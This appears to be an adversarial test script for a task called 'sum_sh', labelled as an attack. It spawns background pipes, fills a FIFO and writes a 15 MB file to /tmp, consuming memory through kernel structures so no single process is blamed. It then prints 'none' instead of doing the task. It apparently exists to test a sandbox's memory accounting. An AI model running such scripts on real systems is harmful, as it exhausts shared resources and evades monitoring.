# Attack: memory is filled by the kernel's own tables, so that no process is large enough to be blamed.
# task: sum_sh
i=0
while [ $i -lt 25 ]; do
  (sleep 1 | sleep 1) &
  i=$((i + 1))
done
mkfifo /tmp/p 2>/dev/null
head -c 15000000 /dev/zero > /tmp/full
exec 7<>/tmp/p
head -c 60000 /dev/zero >&7
echo none
